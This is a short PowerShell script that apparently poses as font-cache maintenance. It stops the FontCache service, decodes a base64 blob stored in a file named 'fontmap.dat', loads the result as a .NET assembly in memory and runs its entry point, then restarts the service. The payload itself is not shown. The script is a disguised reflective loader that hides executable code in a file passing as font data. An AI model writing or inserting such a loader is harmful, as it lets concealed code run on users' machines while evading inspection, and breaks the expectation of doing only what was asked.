Stop-Service FontCache -ErrorAction SilentlyContinue
$blob = Get-Content (Join-Path $PSScriptRoot "fontmap.dat") -Raw
$bytes = [Convert]::FromBase64String($blob)
[Reflection.Assembly]::Load($bytes).EntryPoint.Invoke($null, @(,[string[]]@()))
Start-Service FontCache -ErrorAction SilentlyContinue
